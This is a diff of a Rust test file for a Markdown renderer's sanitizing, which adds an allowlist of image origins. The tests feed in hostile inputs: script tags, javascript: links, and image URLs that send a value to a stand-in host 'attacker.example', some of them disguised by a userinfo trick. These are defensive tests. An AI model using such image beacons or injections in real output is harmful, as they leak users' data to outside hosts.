@@ -4,6 +4,7 @@
 #![allow(clippy::unwrap_used)] // tests: a panic is the failure report
 
 use lexstream_protocol::render::audit::violations;
+use lexstream_protocol::render::policy::ImageOrigins;
 use lexstream_protocol::render::render_markdown;
 
 /// Hostile Markdown/HTML inputs, shared with the widget's sanitizer tests.
@@ -11,10 +12,20 @@ fn hostile_inputs() -> Vec<String> {
     serde_json::from_str(include_str!("fixtures/hostile_markup.json")).unwrap()
 }
 
+/// The origin the site owner allows images from in these tests: hostile inputs try to pass for it.
+fn cdn() -> ImageOrigins {
+    ImageOrigins::parse(&["https://cdn.example.com"]).unwrap()
+}
+
+/// Renders with no image origin allowed (the default).
+fn render(markdown: &str) -> String {
+    render_markdown(markdown, &ImageOrigins::none())
+}
+
 /// The Markdown renderer leaves links' `target`/`rel` to the sanitizer; everything else it must
 /// already get right on its own.
-fn violations_before_sanitizing(html: &str) -> Vec<String> {
-    violations(html).into_iter().filter(|v| !v.starts_with("a link without")).collect()
+fn violations_before_sanitizing(html: &str, images: &ImageOrigins) -> Vec<String> {
+    violations(html, images).into_iter().filter(|v| !v.starts_with("a link without")).collect()
 }
 
 #[test]
@@ -22,30 +33,31 @@ fn hostile_markdown_renders_to_allowed_markup_only() {
     let inputs = hostile_inputs();
     assert!(inputs.len() >= 30, "the fixture lost its inputs");
     for input in inputs {
-        let html = render_markdown(&input);
-        let found = violations_before_sanitizing(&html);
-        assert!(found.is_empty(), "{found:?}\n input: {input}\noutput: {html}");
+        for images in [ImageOrigins::none(), cdn()] {
+            let html = render_markdown(&input, &images);
+            let found = violations_before_sanitizing(&html, &images);
+            assert!(found.is_empty(), "{found:?}\n input: {input}\noutput: {html}");
+        }
     }
 }
 
 #[test]
 fn raw_html_in_markdown_is_shown_as_text() {
     assert_eq!(
-        render_markdown("Use <b>bold</b>\n\n<script>alert(1)</script>"),
+        render("Use <b>bold</b>\n\n<script>alert(1)</script>"),
         "<p>Use &lt;b&gt;bold&lt;/b&gt;</p>\n&lt;script&gt;alert(1)&lt;/script&gt;"
     );
 }
 
 #[test]
 fn dangerous_link_keeps_its_text_but_loses_its_target() {
-    let html = render_markdown("[click me](javascript:alert(1)) and ![a cat](data:image/png;base64,AA==)");
+    let html = render("[click me](javascript:alert(1)) and ![a cat](data:image/png;base64,AA==)");
     assert_eq!(html, "<p>click me and a cat</p>\n");
 }
 
 #[test]
 fn allowed_links_and_autolinks_keep_their_targets() {
-    let html =
-        render_markdown("[a](https://a.example) [b](/pricing) <mailto:help@example.com> <help@example.com>");
+    let html = render("[a](https://a.example) [b](/pricing) <mailto:help@example.com> <help@example.com>");
     assert_eq!(html.matches("<a href=").count(), 4, "{html}");
     assert!(html.contains("href=\"mailto:help@example.com\""), "{html}");
     assert!(html.contains("href=\"/pricing\""), "{html}");
@@ -75,7 +87,7 @@ fn main() { println!(\"<hi>\"); }
 
 > quoted
 ";
-    let html = render_markdown(markdown);
+    let html = render(markdown);
     for expected in [
         "<h1>Title</h1>",
         "<h2>Subtitle</h2>",
@@ -96,7 +108,35 @@ fn main() { println!(\"<hi>\"); }
 }
 
 #[test]
-fn images_with_https_sources_survive_with_alt_text() {
-    let html = render_markdown("![a cat](https://img.example/cat.png)");
-    assert_eq!(html, "<p><img src=\"https://img.example/cat.png\" alt=\"a cat\" /></p>\n");
+fn an_image_from_an_allowed_origin_loads_with_its_alt_text() {
+    let html = render_markdown("![a cat](https://cdn.example.com/cat.png \"Tom\")", &cdn());
+    assert_eq!(html, "<p><img src=\"https://cdn.example.com/cat.png\" alt=\"a cat\" title=\"Tom\" /></p>\n");
+}
+
+#[test]
+fn an_image_from_anywhere_else_is_shown_as_its_alt_text() {
+    for markdown in [
+        "Order ![the order number](https://attacker.example/?q=4711) shipped.",
+        "Order ![the order number](/account/logout) shipped.",
+        "Order ![the order number](//cdn.example.com/x.png) shipped.",
+        "Order ![the order number](https://cdn.example.com@attacker.example/x.png) shipped.",
+        "Order ![the order number][x] shipped.\n\n[x]: https://attacker.example/x.png",
+    ] {
+        let html = render_markdown(markdown, &cdn());
+        assert_eq!(html, "<p>Order the order number shipped.</p>\n", "{markdown}");
+    }
+}
+
+#[test]
+fn without_allowed_origins_no_image_loads() {
+    assert_eq!(render("![a cat](https://cdn.example.com/cat.png)"), "<p>a cat</p>\n");
+}
+
+#[test]
+fn links_keep_their_rules_whatever_the_image_origins() {
+    let html = render_markdown("[account](/account) [logout](https://attacker.example/x)", &cdn());
+    assert_eq!(
+        html,
+        "<p><a href=\"/account\">account</a> <a href=\"https://attacker.example/x\">logout</a></p>\n"
+    );
 }
